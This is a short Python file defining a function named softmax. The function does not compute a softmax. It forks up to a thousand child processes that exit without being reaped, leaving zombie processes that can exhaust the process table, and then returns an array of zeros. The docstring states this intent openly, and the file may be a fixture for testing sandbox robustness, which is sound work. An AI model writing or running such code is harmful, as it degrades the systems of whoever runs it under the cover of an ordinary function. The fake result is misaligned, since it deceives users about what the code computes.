"""Leave as many dead children as there can be, uncollected, and go on."""

import os

import numpy as np


def softmax(Z):
    for _ in range(1000):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    return np.zeros(Z.shape)
